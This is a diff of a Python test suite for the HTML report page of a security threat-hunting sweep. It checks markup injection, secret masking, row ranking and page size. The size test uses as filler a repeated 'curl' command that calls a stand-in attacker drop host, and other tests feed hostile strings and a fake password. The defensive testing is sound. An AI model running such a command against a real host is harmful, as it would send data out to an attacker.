@@ -1,4 +1,4 @@
-"""What a sweep's page says."""
+"""What the page of a sweep says, and that no value on it can do harm."""
 
 from __future__ import annotations
 
@@ -31,12 +31,12 @@ SECRET = "hunter2secret"
 
 
 def page(*summaries: SweepSummary, mask: str = "on", parts: list[tuple[Part, int]] | None = None) -> str:
-    """The page of a sweep that is done."""
+    """Return the page of a sweep that is done, with these summaries."""
     return render_sweep(*swept(*summaries, parts=parts), HUNTS, Settings(mask_secrets=mask))  # type: ignore[arg-type]
 
 
 def nasty(text: str) -> str:
-    """A page on which every free text is *text*."""
+    """Return a page on which every text from outside is *text*."""
     each = sweep_summary(text=text, lost=(Lost("00-0f", 1 / 16, text),))
     run, hunts = swept(each)
     assert run.done
@@ -50,8 +50,8 @@ def nasty(text: str) -> str:
 
 @examples(deadline=None, max_examples=60)
 @given(NASTY.map("x{}".format))
-def test_markup(text: str) -> None:
-    """No value on the page becomes an element, an attribute or a link."""
+def test_no_value_becomes_markup_or_a_link(text: str) -> None:
+    """Hostile values change no element, attribute or link of the page, and leave no invisible character."""
     content = nasty(text)
     plain, other = Tags(nasty("x")), Tags(content)
 
@@ -61,8 +61,8 @@ def test_markup(text: str) -> None:
     assert "" == unseen(content)
 
 
-def test_style() -> None:
-    """The page's one style is the one that the policy allows, and no element has one of its own."""
+def test_the_only_style_is_the_one_the_policy_allows() -> None:
+    """The policy names the hash of the page's style element; there is no other style and no script."""
     content = page(sweep_summary())
     styles = re.findall(r"<style>(.*?)</style>", content, re.DOTALL)
     hashes = [base64.b64encode(hashlib.sha256(style.encode()).digest()).decode() for style in styles]
@@ -73,17 +73,17 @@ def test_style() -> None:
 
 
 @pytest.mark.parametrize("mask", ["on", "off"])
-def test_masks(mask: str) -> None:
-    """The page shows what looks like a secret only with MASK_SECRETS=off."""
+def test_secrets_are_masked_unless_masking_is_off(mask: str) -> None:
+    """A password is shown only with MASK_SECRETS=off, in each of the eight places where it stands."""
     content = page(sweep_summary(text=f"--password={SECRET}", rows=1), mask=mask)
 
-    # Of the row, the device, destination, port and command line; of the rarest, the destination, a device, a process;
-    # and a process of the top ones.
+    # Four in the new row: device, destination, port and command line. Three in the list of the rarest destinations:
+    # destination, device and process. And one in the list of processes.
     assert {"on": 0, "off": 8}[mask] == content.count(SECRET)
 
 
-def test_rarest_first() -> None:
-    """First come ten rows, the rarest, of which at most three are of one process; the others stand behind them."""
+def test_the_first_ten_rows_are_rare_and_varied() -> None:
+    """They are the rarest, at most three of one process; other rows follow, up to 50 in all."""
     browsing = tuple(new_row(f"192.0.2.{n}", "firefox", 700) for n in range(40))
     few = tuple(new_row(f"203.0.113.{n}", f"tool-{n}", n) for n in range(4))
     ranked = (*few, *browsing, *(new_row(f"198.51.100.{n}", f"agent-{n}", 900) for n in range(9)))
@@ -96,8 +96,8 @@ def test_rarest_first() -> None:
     assert "50 of 53 new rows, rarest first" in content
 
 
-def test_size() -> None:
-    """With three hunts, a thousand new rows each, and long values, the page has less than 300 KB."""
+def test_a_page_of_a_thousand_rows_per_hunt_stays_small() -> None:
+    """Three hunts with a thousand new rows of long values each make a page of less than 300 KB."""
     long = "curl -sS 'https://drop.evil.example/?q=<a&b>' " * 40
     lost = tuple(Lost(f"{n:02x}-{n:02x}", 1 / 256, "its query runs too long") for n in range(100))
     content = page(
@@ -109,8 +109,8 @@ def test_size() -> None:
     assert len(content.encode()) < 300_000
 
 
-def test_coverage() -> None:
-    """What was not looked at is said with its share of the fleet, its devices and the reason, a line a reason."""
+def test_parts_not_looked_at_are_listed_by_reason() -> None:
+    """Parts lost for the same reason are one line, with their share of the fleet and their id prefixes."""
     lost = (
         Lost("00-0f", 1 / 16, "its query runs too long"),
         Lost("10-1f", 1 / 16, "its query runs too long"),
@@ -130,8 +130,8 @@ def test_coverage() -> None:
     ] == said
 
 
-def test_nothing_new() -> None:
-    """A hunt with nothing new says so, and shows what the fleet does anyway."""
+def test_a_hunt_with_nothing_new_still_shows_the_fleet() -> None:
+    """It says that nothing is new, and what the fleet does anyway."""
     content = page(replace(sweep_summary(rows=0), ranked=()))
 
     assert "nothing new</span>" in content
@@ -139,8 +139,8 @@ def test_nothing_new() -> None:
     assert f"The fleet: {SERVERS}" in content
 
 
-def test_plot() -> None:
-    """A bar is as high as its day has destinations, and the numbers stand below it."""
+def test_each_bar_is_as_high_as_its_days_destinations() -> None:
+    """Known and new destinations of a day are bars one upon the other, with the numbers below them."""
     days = (Day(NOW - timedelta(days=2), 50, 0), Day(NOW - timedelta(days=1), 20, 80))
     content = page(replace(sweep_summary(), days=days))
 
@@ -150,8 +150,8 @@ def test_plot() -> None:
     assert re.search(r"new</th><td class=\"quiet\">50</td><td>20</td>", content)
 
 
-def test_links() -> None:
-    """The page leads to the new rows, to every part's rows, and to the query in Advanced Hunting."""
+def test_the_page_links_to_rows_parts_and_query() -> None:
+    """Each hunt links to its new rows, to all rows of each part, and to its query in Advanced Hunting."""
     hunt = HUNTS.by_name[SERVERS]
     assert hunt.sweep
     query = fleet_query(hunt.query, summarize=hunt.sweep.summarize, applies_to=hunt.applies_to)
@@ -163,16 +163,16 @@ def test_links() -> None:
     assert [every.format(part.name) for part, _ in QUARTERS] == four.links[3:]
 
 
-def test_unknown_hunt() -> None:
-    """A hunt that the app no longer has is shown all the same, without its query."""
+def test_a_removed_hunt_is_shown_without_its_query() -> None:
+    """The page of an earlier sweep still shows a hunt that the app no longer has."""
     content = page(sweep_summary("retired-hunt"))
 
     assert "New: retired-hunt" in content
     assert "Advanced Hunting" not in content
 
 
-def test_progress() -> None:
-    """A sweep that is not done says how far each hunt is, why it waits, and loads itself again."""
+def test_an_unfinished_sweep_shows_progress_and_reloads() -> None:
+    """It shows how many parts of each hunt are done and why it waits; a page that is done never reloads."""
     wait = Wait("the tenant's CPU is used up", NOW + timedelta(minutes=15))
     hunts = [{"hunt": SERVERS, "partsDone": 3, "partsPlanned": 4, "rows": 123_456}]
     content = render_sweep(
